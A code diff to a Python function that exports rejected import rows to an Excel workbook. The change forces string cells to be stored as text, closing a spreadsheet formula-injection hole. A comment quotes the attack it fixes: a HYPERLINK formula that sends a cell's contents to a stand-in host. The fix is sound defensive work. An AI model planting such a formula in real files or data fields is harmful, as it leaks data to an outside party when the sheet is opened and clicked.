@@ -853,15 +853,30 @@ def write_rejected(result: OrganisationResult, path: str | Path, specs: Mapping[
     written: list[Path] = []
     if target.suffix.lower() in (".xlsx", ".xlsm"):
         from openpyxl import Workbook
+        from openpyxl.cell import WriteOnlyCell
 
         book = Workbook(write_only=True)
+
+        def as_read(sheet: Any, values: list[Any]) -> list[Any]:
+            # a text stays text: openpyxl stores a text that starts with '=' as a formula (found by attack: a
+            # name '=HYPERLINK("https://evil.example/?"&B2, "Klik")' in a CSV or a text cell came back as a live
+            # formula in the file the administrator opens to fix the rows)
+            cells: list[Any] = []
+            for value in values:
+                if isinstance(value, str):
+                    cell = WriteOnlyCell(sheet, value=value)
+                    cell.data_type = "s"
+                    value = cell
+                cells.append(value)
+            return cells
+
         for entity in ENTITIES:
             if entity in by_entity:
                 sheet = book.create_sheet(label[entity])
                 header, body = table(entity)
-                sheet.append(header)
+                sheet.append(as_read(sheet, header))
                 for row in body:
-                    sheet.append(row)
+                    sheet.append(as_read(sheet, row))
         book.save(target)
         return [target]
     import csv
